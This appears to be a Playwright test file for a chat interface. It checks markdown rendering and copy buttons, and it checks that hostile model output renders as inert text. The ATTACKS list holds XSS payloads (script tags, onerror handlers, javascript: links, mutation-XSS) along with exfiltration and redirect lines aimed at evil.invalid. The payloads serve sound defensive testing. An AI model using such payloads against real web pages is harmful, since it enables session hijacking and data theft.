"""What an answer looks like: markdown, code and tables, whatever way it arrives, and nothing of it can act."""

from __future__ import annotations

import pytest
from playwright.async_api import Page, expect

from .conftest import Witness
from .scripted import Script, ScriptedHouse
from .test_conversation import ask

pytestmark = pytest.mark.browser

RICH = """# Title

Some *words* with `code`, a [link](https://example.org/a).

```python
def double(x):
    return 2 * x
```

| a | b |
|---|--:|
| 1 | 2 |

1. one
2. two 🏡 é
"""

ATTACKS = (
    "<script>window.owned = 1</script>",
    "<img src=x onerror='window.owned = 1'>",
    "<svg onload='window.owned = 1'></svg>",
    "<iframe srcdoc='<script>parent.owned = 1</script>'></iframe>",
    "[click](javascript:window.owned=1)",
    "![picture](https://evil.invalid/a.png?q=secret)",
    "![x](x' onerror='window.owned=1)",
    "<style>@import url(https://evil.invalid/a.css);</style>",
    "<link rel=stylesheet href=https://evil.invalid/a.css>",
    "<base href=https://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<form action=https://evil.invalid/><button>Send</button></form>",
    "```\"><img src=x onerror='window.owned=1'>\n<script>window.owned = 1</script>\n```",
    "<math><mtext><table><mglyph><style><img src=x onerror='window.owned=1'>",
    "<p id=question autofocus onfocus='window.owned=1' tabindex=1>x</p>",
)


async def show(page: Page, house: ScriptedHouse, *pieces: str) -> None:
    house.scripts["Show"] = Script(pieces)
    await ask(page, "Show")
    await expect(page.get_by_role("article").last).to_have_attribute("aria-busy", "false")


@pytest.mark.parametrize("step", [1, 7, 1000])
async def test_markdown_is_the_same_in_pieces_of_any_size(page: Page, house: ScriptedHouse, step: int) -> None:
    await show(page, house, *(RICH[at : at + step] for at in range(0, len(RICH), step)))
    prose = page.locator(".prose")
    await expect(prose.get_by_role("heading", name="Title")).to_be_visible()
    await expect(prose.locator("li")).to_have_text(["one", "two 🏡 é"])
    await expect(prose.locator("pre")).to_have_text("def double(x):\n    return 2 * x\n", use_inner_text=False)
    await expect(prose.locator("td")).to_have_text(["1", "2"])
    await expect(prose.locator("h1, p, figure, table, ol")).to_have_count(5)
    await expect(prose.locator("pre .nf")).to_have_text("double")


async def test_a_link_opens_apart_and_tells_nobody_where_it_came_from(page: Page, house: ScriptedHouse) -> None:
    await show(page, house, RICH)
    link = page.get_by_role("link", name="link", exact=True)
    await expect(link).to_have_attribute("target", "_blank")
    await expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")


async def test_code_and_answers_are_copied_as_they_were_written(page: Page, house: ScriptedHouse) -> None:
    await page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    await show(page, house, RICH)
    await expect(page.locator(".code .language")).to_have_text("python")
    await page.get_by_role("button", name="Copy code").click()
    await expect(page.get_by_role("button", name="Copied")).to_be_visible()
    assert await page.evaluate("navigator.clipboard.readText()") == "def double(x):\n    return 2 * x"
    await page.get_by_role("button", name="Copy message").last.click()
    await page.wait_for_function("async text => (await navigator.clipboard.readText()) === text", arg=RICH)


@pytest.mark.parametrize("step", [3, 1000])
async def test_what_a_hostile_model_writes_is_inert(
    page: Page, house: ScriptedHouse, witness: Witness, step: int
) -> None:
    text = "\n\n".join([*ATTACKS, "The end."])
    await show(page, house, *(text[at : at + step] for at in range(0, len(text), step)))
    await expect(page.locator(".prose")).to_contain_text("The end.")
    await expect(page.locator(".prose")).to_contain_text("<script>window.owned = 1</script>")
    await expect(page.locator(".prose")).to_contain_text("Picture not loaded: picture")
    assert await page.evaluate("window.owned") is None
    assert (
        await page.locator(".prose :is(script, img, svg:not(.icon), iframe, style, link, base, meta, form)").count()
        == 0
    )
    assert await page.locator("#question").count() == 1
    assert witness.strangers() == []


async def test_a_hostile_question_and_title_are_only_text(page: Page, house: ScriptedHouse) -> None:
    question = "<img src=x onerror='window.owned=1'>"
    await ask(page, question)
    await expect(page.locator(".bubble")).to_have_text(question)
    await expect(page.locator(".conversation-open")).to_have_text(question)
    assert await page.evaluate("window.owned") is None


async def test_an_answer_longer_than_one_rendering_is_shown_whole(page: Page, house: ScriptedHouse) -> None:
    count = 4000
    await show(page, house, *(f"Paragraph {number} of many.\n\n" for number in range(count)))
    await expect(page.locator(".prose > p")).to_have_count(count, timeout=30_000)
    await expect(page.locator(".prose > p").last).to_have_text(f"Paragraph {count - 1} of many.")


async def test_the_page_itself_could_not_reach_out_if_it_tried(page: Page, witness: Witness) -> None:
    tried = await page.evaluate(
        """async () => {
            const outcome = {};
            outcome.fetch = await fetch("https://evil.invalid/").then(() => "reached", () => "refused");
            const attempt = (name, act) => {
                try { act(); outcome[name] = "done"; } catch { outcome[name] = "refused"; }
            };
            // Outside of the call that runs this test, which the policy does not bind.
            await new Promise(resolve => setTimeout(() => resolve(attempt("eval", () => eval("1")))));
            attempt("html", () => { document.createElement("div").innerHTML = "<b>x</b>"; });
            attempt("policy", () => trustedTypes.createPolicy("other", {}));
            return outcome;
        }"""
    )
    assert tried == {"fetch": "refused", "eval": "refused", "html": "refused", "policy": "refused"}
    assert len(witness.troubles) >= 4
    witness.troubles.clear()
    witness.requests.clear()
